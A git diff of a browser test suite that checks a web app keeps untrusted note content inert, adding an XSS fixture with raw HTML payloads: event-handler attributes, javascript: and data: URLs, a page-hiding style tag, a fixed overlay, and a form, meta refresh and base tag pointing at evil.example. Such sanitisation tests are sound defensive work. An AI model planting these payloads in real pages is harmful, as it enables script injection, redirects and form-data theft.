@@ -83,6 +83,26 @@ const XSS_NOTE = [
   "",
   "[JaVaScRiPt link](JaVaScRiPt&#58;alert(9))",
   "",
+  "GitHub's raw HTML, carrying handlers and bad URLs:",
+  "",
+  '<details open ontoggle="window.__xss=12"><summary onclick="window.__xss=13">More</summary>',
+  "",
+  'Press <kbd onmouseover="window.__xss=14">Ctrl</kbd> x<sup onclick="window.__xss=15">2</sup> H<sub>2</sub>O',
+  "",
+  "</details>",
+  "",
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="data image" width="20"> <img src="javascript:window.__xss=16" alt="js image">',
+  "",
+  '<div style="position:fixed;inset:0;z-index:9999;background:red" data-probe="overlay">overlay</div>',
+  "",
+  "<style>body { display: none !important }</style>",
+  "",
+  '<form action="https://evil.example/steal"><input name="seed" value="probe-input"><button formaction="javascript:window.__xss=17">send</button></form>',
+  "",
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
+  "",
+  '<object data="javascript:window.__xss=18"></object><embed src="javascript:window.__xss=19"><iframe srcdoc="<script>parent.__xss=20</script>"></iframe>',
+  "",
 ].join("\n");
 
 const EVIL_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.__xss=10;alert(10)"><script>window.__xss=11;alert(11)</script><rect width="40" height="40" fill="red"/></svg>\n';
@@ -298,20 +318,33 @@ describe("web app in Chromium against the local stack", { timeout: 280_000 }, ()
     assert.equal(await page.getByTestId("title").inputValue(), "Draft that must survive");
   });
 
-  test("untrusted entry content stays inert (scripts, handlers, javascript: URLs, SVG)", async () => {
+  test("untrusted entry content stays inert (scripts, handlers, javascript: and data: URLs, SVG, forms, styles, meta, base, frames)", async () => {
     await page.goto(`${stack.appUrl}#/`);
     await page.locator(".feed-title", { hasText: "XSS probe" }).click();
     await page.getByTestId("verified").waitFor();
     const body = page.getByTestId("entry-body");
-    assert.match((await body.textContent())!, /<script>window.__xss = 1; alert\(1\)<\/script>/, "raw HTML is shown as text");
-    assert.equal(await page.locator("main script, main iframe, main [onerror], main [onload], main svg").count(), 0);
+    // GitHub's subset of raw HTML renders; everything else is dropped
+    await body.locator("details > summary", { hasText: "More" }).waitFor();
+    assert.equal(await body.locator("kbd").textContent(), "Ctrl");
+    assert.doesNotMatch((await body.textContent())!, /window.__xss = 1/, "a script's text is dropped with it");
+    assert.equal(await page.locator("main script, main iframe, main object, main embed, main form, main input, main style, main meta, main base, main [onerror], main [onload], main [ontoggle], main [onclick], main [onmouseover]").count(), 0);
+    // the app draws identicons as inline SVG; the note itself brings none, and no style attribute
+    assert.equal(await body.locator("svg, [style]").count(), 0);
+    assert.equal(await page.locator("head base, head meta[http-equiv]").count(), 0);
+    assert.notEqual(await page.evaluate(() => getComputedStyle(document.body).display), "none");
+    await body.getByText("overlay").waitFor();
+    assert.equal(await body.getByText("overlay").evaluate((el) => getComputedStyle(el).position), "static");
     assert.equal(await page.locator('main a[href^="javascript" i], main a[href^="data:" i]').count(), 0);
     await body.getByText("click me").click();
     await body.getByText("JaVaScRiPt link").click().catch(() => undefined);
     // The SVG image is shown through <img> (scripts in it never run) from verified bytes.
+    // <img src=x>: a path inside the entry, which has no such file (shown as missing); the data: and javascript: images as their alt text
     const img = body.locator("img");
-    await page.waitForFunction(() => document.querySelector('[data-testid="entry-body"] img')?.getAttribute("src")?.startsWith("data:image/svg+xml"));
-    assert.equal(await img.count(), 1);
+    await page.waitForFunction(() => document.querySelector('[data-testid="entry-body"] img[alt="svg image"]')?.getAttribute("src")?.startsWith("data:image/svg+xml"));
+    assert.equal(await img.count(), 2);
+    await body.locator("img.missing-image").waitFor();
+    await body.getByText("[image: data image]").waitFor();
+    await body.getByText("[image: js image]").waitFor();
     await page.waitForTimeout(1_000);
     await page.screenshot({ path: path.join(artifacts, "xss-entry.png"), fullPage: true });
     assert.equal(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss), undefined);
@@ -445,7 +478,7 @@ describe("web app in Chromium against the local stack", { timeout: 280_000 }, ()
     await page.emulateMedia({ colorScheme: "dark" });
     await page.goto(`${stack.appUrl}#/entry/${publishedCid}`);
     await page.locator(".entry-body pre code.hljs").waitFor();
-    assert.equal(await page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor), "rgb(15, 18, 21)");
+    assert.equal(await page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor), "rgb(21, 22, 26)");
     await page.screenshot({ path: path.join(artifacts, "entry-phone-dark.png"), fullPage: true });
     await page.emulateMedia({ colorScheme: "light" });
     await page.setViewportSize({ width: 1200, height: 900 });
